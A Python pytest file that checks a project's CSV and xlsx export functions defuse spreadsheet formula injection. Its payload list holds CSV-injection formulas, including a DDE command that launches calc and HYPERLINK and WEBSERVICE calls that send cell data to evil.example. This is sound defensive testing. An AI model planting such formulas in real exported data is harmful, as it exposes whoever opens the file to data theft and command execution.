"""T19: what leaves the house as a table, opened by a reader of spreadsheets that is not ours (calamine, which sees the
type of each cell as a spreadsheet does): texts and nothing else, none calculated, no number cut.

LibreOffice itself is not among what the tests can install; whoever has it opens the same bytes."""

import csv
import io

import pytest
from python_calamine import CalamineWorkbook

from butler.kit.tables import harmless, write_csv, write_xlsx
from figures import Show

SIGNS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠")
FORMULAS = (
    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example/?"&A1,"点这里")', "WEBSERVICE(\"http://evil.example\")",
    "SUM(A1:A9)", "DDE(\"cmd\";\"/C calc\";\"x\")",
)  # fmt: skip
PAYLOADS = [sign + formula for sign in SIGNS for formula in FORMULAS]
NUMBERS = [
    "330106199001011234", "33010619900101123X", "110101190001010019", "6222020200112233445", "13800001111", "013800001111",
    "00000012", "12345678901234567890123", "1e5", "1E400", "0x1F", "1,234", "3-2", "3/2", "2026-11-25", "11月25日", "12:30",
    "TRUE", "是", "￥12.30", "50%", "1 000", "NaN", "#REF!", "#N/A", "１２３４５６７８９０１２３４５６７８",
]  # fmt: skip


def test_workbook_holds_texts_alone(show: Show) -> None:
    rows = [["单号", "内容"], *([payload, number] for payload, number in zip(PAYLOADS, NUMBERS * 3, strict=False))]

    book = CalamineWorkbook.from_filelike(io.BytesIO(write_xlsx(rows)))
    read = book.get_sheet_by_index(0).to_python(skip_empty_area=False)

    kinds = {type(cell) for row in read for cell in row}
    wrong = [(was, now) for row, seen in zip(rows, read, strict=True) for was, now in zip(row, seen, strict=True)
             if now != as_kept(was)]  # fmt: skip
    show(
        "T19",
        "cells read by calamine",
        payloads=len(PAYLOADS),
        numbers=len(NUMBERS),
        kinds=len(kinds),
        wrong=len(wrong),
    )
    assert len(PAYLOADS) >= 60
    assert kinds == {str}
    assert wrong == []
    assert not any(cell.startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠")) for row in read for cell in row)


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_csv_holds_no_formula_however_it_is_cut(delimiter: str) -> None:
    """A spreadsheet may cut at other signs than we did: no piece of a line begins a formula where ours was quoted."""
    text = write_csv([[payload] for payload in PAYLOADS]).decode("utf-8-sig")

    cells = [row[0] for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)]

    assert len(cells) == len(PAYLOADS)
    assert {cell[:1] for cell in cells} == {"'"}


def test_csv_is_recognised_for_what_it_is() -> None:
    rows = [["单号", "电话", "证件"], ["7K3M-2QWX-9A4F", "13800001111", "330106199001011234"]]
    text = write_csv(rows).decode("utf-8-sig")

    seen = csv.Sniffer().sniff(text)

    assert (seen.delimiter, seen.quotechar) == (",", '"')
    assert list(csv.reader(io.StringIO(text, newline=""), seen))[1][2] == "'330106199001011234", (
        "eighteen digits, as text"
    )


def as_kept(cell: str) -> str:
    """As it was, but harmless; XML knows no bare CR."""
    return harmless(cell).replace("\r", "")
